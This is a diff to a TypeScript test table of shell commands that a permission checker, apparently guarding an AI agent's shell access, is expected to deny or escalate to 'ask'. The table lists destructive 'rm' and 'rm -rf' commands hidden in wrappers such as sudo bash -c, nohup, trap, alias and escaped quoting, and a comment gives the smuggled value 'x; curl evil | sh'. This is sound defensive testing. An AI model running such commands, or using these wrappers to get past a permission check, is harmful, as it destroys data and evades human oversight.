@@ -54,9 +54,10 @@ const bypasses: ReadonlyArray<{ readonly command: string; readonly effect: "deny
   { command: "nohup setsid stdbuf -oL ionice -c 3 rm x &", effect: "deny", surfaces: "rm x" },
   { command: "watch -n 1 rm x", effect: "deny", surfaces: "rm x" },
   { command: "sudo bash -c 'cd /; rm -rf x'", effect: "deny", surfaces: "rm -rf x" },
-  { command: "xargs -I{} sh -c 'rm {}'", effect: "deny", surfaces: "rm {}" },
+  // xargs puts its input where `{}` is, inside the string: `x; curl evil | sh` would run.
+  { command: "xargs -I{} sh -c 'rm {}'", effect: "ask" },
   { command: "trap 'rm x' EXIT", effect: "deny", surfaces: "rm x" },
-  { command: "alias ls='rm -rf'", effect: "deny", surfaces: "rm -rf" },
+  { command: "alias ls='rm -rf'", effect: "ask" },
   { command: "/bin/rm -rf x", effect: "deny", surfaces: "rm -rf x" },
   { command: '"rm" x', effect: "deny", surfaces: "rm x" },
   { command: "r\\m x", effect: "deny", surfaces: "rm x" },
